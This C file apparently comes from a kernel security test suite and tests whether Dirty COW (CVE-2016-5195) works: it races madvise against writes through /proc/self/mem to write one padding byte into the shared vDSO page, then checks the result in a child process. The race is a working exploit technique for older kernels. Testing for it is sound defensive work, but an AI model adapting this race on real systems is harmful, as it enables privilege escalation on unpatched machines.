// SPDX-License-Identifier: GPL-2.0-only
// CVE-2016-5195, Dirty COW, on the page of the vDSO, which all processes of the
// machine have in common: written by /proc/self/mem, while madvise(2) drops it.
// Modes: guest bare
// (it needs the mistake of kernels before 4.8.3)
#include <pthread.h>
#include <sys/auxv.h>
#include <sys/mman.h>

#include "attack.h"

static char *vdso;
static volatile bool stop;

static void *drop(void *unused)
{
	while (!stop)
		madvise(vdso, 4096, MADV_DONTNEED);
	return unused;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	int fd, i, status;
	pid_t pid;

	vdso = (void *)getauxval(AT_SYSINFO_EHDR);
	NEED(vdso);
	/* a byte of the padding of e_ident */
	if (argc > 1)
		_exit(vdso[15] == 7 ? 7 : 0);
	fd = open("/proc/self/mem", O_RDWR);
	if (fd < 0)
		refused("open /proc/self/mem");
	NEED(!pthread_create(&thread, NULL, drop, NULL));
	for (i = 0; i < 20000; i++)
		if (pwrite(fd, "\7", 1, (off_t)vdso + 15) < 0 && errno != EIO)
			break;
	stop = true;
	pthread_join(thread, NULL);
	pid = fork();
	NEED(pid >= 0);
	if (!pid) {
		execl("/proc/self/exe", argv[0], "look", NULL);
		_exit(1);
	}
	NEED(waitpid(pid, &status, 0) == pid);
	NEED(WIFEXITED(status) && WEXITSTATUS(status) != 1);
	if (WEXITSTATUS(status) == 7)
		worked("the vDSO of others is written");
	harmless("a private copy of the vDSO");
}
